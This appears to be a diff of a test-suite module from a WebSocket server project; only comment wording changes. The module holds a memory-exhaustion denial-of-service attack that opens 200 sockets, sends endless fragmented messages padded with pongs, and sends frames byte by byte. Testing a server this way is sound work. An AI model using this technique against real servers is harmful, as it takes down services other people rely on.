@@ -4,10 +4,10 @@ import { WebSocket } from 'ws';
 
 const address = '10.66.0.2';
 const socketCount = 200;
-/** Bytes of a read that the program makes of a connection. */
+/** Size of the program's reads from a connection, in bytes. */
 const readBytes = 64 * 1024;
 
-/** A frame of a client, masked with zeros. */
+/** A WebSocket frame of a client, masked with zeros. */
 function frame(first, length) {
   const header = length < 126 ? [first, 0x80 | length] : [first, 0xfe, length >> 8, length & 255];
   return Buffer.concat([Buffer.from([...header, 0, 0, 0, 0]), Buffer.alloc(length, 'x')]);
@@ -16,8 +16,9 @@ function frame(first, length) {
 const pongs = Buffer.concat(Array.from({ length: readBytes / 131 }, () => frame(0x8a, 125)));
 
 /**
- * Sends messages in parts that never end, each part in a read of its own that pongs fill, so that a byte keeps 64 kB; and
- * frames byte by byte. 47 MB of it ended the process, one socket could keep up to 1 GB.
+ * Sends fragmented messages that never end. Each fragment is in a read of its own that is filled with pongs, so that
+ * one byte keeps 64 kB in memory. Also sends frames byte by byte. 47 MB of this ended the process; one socket could
+ * keep up to 1 GB.
  */
 export const attack = {
   name: 'unfinished messages',
@@ -26,7 +27,7 @@ export const attack = {
     let opened = 0;
     let ended = 0;
     let sent = 0;
-    // One visitor may have many sockets.
+    // One visitor can have many sockets.
     const session = await request('/api/session/anonymous', { method: 'POST', headers: { origin } });
     const cookie = session.headers
       .getSetCookie()
